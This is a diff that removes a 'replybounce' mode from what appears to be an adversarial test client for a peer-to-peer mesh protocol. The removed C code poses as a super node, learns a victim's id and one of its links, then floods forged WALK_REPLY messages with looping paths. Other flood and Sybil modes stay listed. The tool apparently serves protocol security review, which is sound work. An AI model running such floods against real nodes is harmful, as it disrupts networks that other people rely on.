@@ -37,11 +37,6 @@
  *   walkflood   canopy-hostile walkflood HOST:PORT RATE SECONDS: HELLO as a
  *               super node, then RATE WALKs a second, each ending at the
  *               victim; prints "sent N replies R link up|closed"
- *   replybounce canopy-hostile replybounce HOST:PORT RATE SECONDS: HELLO as a
- *               super node, learn the victim's id and a link's (its HOSTS and
- *               LINKS), then RATE forged WALK_REPLYs a second, their paths
- *               bouncing between the two or off any walk's way; prints
- *               "sent N link up|closed"
  * A super-node link whose query ids collide (exit 0 after SECONDS):
  *   qidflood    canopy-hostile qidflood HOST:PORT RATE SECONDS same|random:
  *               HELLO as a super node, then RATE QUERYs a second (ttl 0),
@@ -1480,99 +1475,6 @@ static int walkflood_main(int argc, char **argv)
 
 /* --- end of mesh2 findings --------------------------------------------------- */
 
-/* --- mesh3 findings: forged WALK_REPLY paths (review of f-mesh2) ----------- */
-
-/* Reads what the victim sends for up to ms: its id (first entry of its
- * HOSTS, itself) into v, a link of its (first id of its LINKS) into x.
- * Answers PINGs. False if the link closed. */
-static bool bounce_learn(int fd, Channel *ch, uint8_t v[32], bool *have_v, uint8_t x[32],
-                         bool *have_x, int ms)
-{
-  struct pollfd pfd = {fd, POLLIN, 0};
-  if (poll(&pfd, 1, ms) <= 0)
-    return true;
-  uint8_t buf[65536];
-  ssize_t n = recv(fd, buf, sizeof buf, MSG_DONTWAIT);
-  if (n == 0 || (n < 0 && errno != EAGAIN) || (n > 0 && !channel_feed(ch, buf, (size_t)n)))
-    return false;
-  const uint8_t *msg;
-  size_t len;
-  while (channel_read(ch, &msg, &len) == 1) {
-    WireMsg m;
-    if (wire_decode(msg, len, &m) != WIRE_OK)
-      continue;
-    if (m.type == MSG_PING) {
-      WireMsg pong = {.type = MSG_PONG};
-      pong.u.ping = m.u.ping;
-      send_msg(fd, ch, &pong);
-    } else if (m.type == MSG_HOSTS && m.u.hosts.count > 0 && !*have_v) {
-      memcpy(v, m.u.hosts.hosts[0].id, 32);
-      *have_v = true;
-    } else if (m.type == MSG_LINKS && m.u.nbrs.count > 0) {
-      memcpy(x, m.u.nbrs.ids, 32);
-      *have_x = true;
-    }
-    wire_msg_clear(&m);
-  }
-  flush_channel(fd, ch);
-  return true;
-}
-
-/* HELLO as a super node; learn the victim V's id and one of its honest
- * links X; then RATE WALK_REPLYs a second for SECONDS, alternately with
- * the path [X,V,X,V,X,V,X,V] (which bounced between V and X, 7 frames a
- * frame) and [X,V] (a reply for a walk V never passed on). Prints "sent N
- * link up|closed"; exit 2 if V or X was not learned within 10 s. */
-static int replybounce_main(int argc, char **argv)
-{
-  double rate = atof(argv[3]);
-  long seconds = atol(argv[4]);
-  if (argc != 5 || !(rate > 0) || rate > 100000 || seconds < 1 || !crypto_ready())
-    return 2;
-  Sybil s = {.fd = dial(argv[2])};
-  if (s.fd < 0 || !(s.ch = open_channel(s.fd, &s.id)))
-    return 2;
-  hello_super(s.fd, s.ch, "");
-  uint8_t v[32], x[32];
-  bool have_v = false, have_x = false, up = true;
-  for (long t0 = now_ms(); up && !(have_v && have_x) && now_ms() < t0 + 10000;)
-    up = bounce_learn(s.fd, s.ch, v, &have_v, x, &have_x, 50);
-  if (!have_v || !have_x) {
-    fprintf(stderr, "replybounce: victim id %s, link id %s\n", have_v ? "learned" : "unknown",
-            have_x ? "learned" : "unknown");
-    return 2;
-  }
-  uint8_t path[WIRE_MAX_WALK * 32];
-  for (int i = 0; i < WIRE_MAX_WALK; i++)
-    memcpy(path + i * 32, i % 2 ? v : x, 32);
-  long start = now_ms(), sent = 0;
-  for (long now = start; up && now < start + seconds * 1000; now = now_ms()) {
-    long due = (long)((double)(now - start) * rate / 1000.0);
-    for (; sent < due; sent++) {
-      WireMsg r = {.type = MSG_WALK_REPLY};
-      r.u.walk.id = (uint64_t)sent;
-      if (sent % 2 == 0) {
-        r.u.walk.path = path; /* [X,V,X,V,X,V,X,V] */
-        r.u.walk.path_len = WIRE_MAX_WALK;
-      } else {
-        r.u.walk.path = path + (WIRE_MAX_WALK - 2) * 32; /* [X,V] */
-        r.u.walk.path_len = 2;
-      }
-      r.u.walk.end.addr = wire_str("127.0.0.1:9", 11);
-      memcpy(r.u.walk.end.id, s.id.id, 32);
-      send_msg(s.fd, s.ch, &r);
-    }
-    up = bounce_learn(s.fd, s.ch, v, &have_v, x, &have_x, 5);
-  }
-  printf("sent %ld link %s\n", sent, up ? "up" : "closed");
-  channel_free(s.ch);
-  identity_clear(&s.id);
-  close(s.fd);
-  return up ? 0 : 1;
-}
-
-/* --- end of mesh3 findings --------------------------------------------------- */
-
 int main(int argc, char **argv)
 {
   if (argc < 3) {
@@ -1594,8 +1496,7 @@ int main(int argc, char **argv)
             "       canopy-hostile sybilpub HOST:PORT COUNT SECONDS [KEYWORDS]\n"
             "       canopy-hostile rejecter HOST:PORT NAME CID SIZE SECONDS TEXT\n"
             "       canopy-hostile hostsflood LISTEN_HOST:PORT FRAMES\n"
-            "       canopy-hostile walkflood HOST:PORT RATE SECONDS\n"
-            "       canopy-hostile replybounce HOST:PORT RATE SECONDS\n");
+            "       canopy-hostile walkflood HOST:PORT RATE SECONDS\n");
     return 2;
   }
   if (strcmp(argv[1], "m1flood") == 0 && argc >= 4)
@@ -1620,8 +1521,6 @@ int main(int argc, char **argv)
     return qidflood_main(argc, argv);
   if (strcmp(mode, "walkflood") == 0 && argc == 5)
     return walkflood_main(argc, argv);
-  if (strcmp(mode, "replybounce") == 0)
-    return replybounce_main(argc, argv);
   int fd = dial(argv[2]);
   if (fd < 0) {
     fprintf(stderr, "canopy-hostile: cannot connect to %s\n", argv[2]);
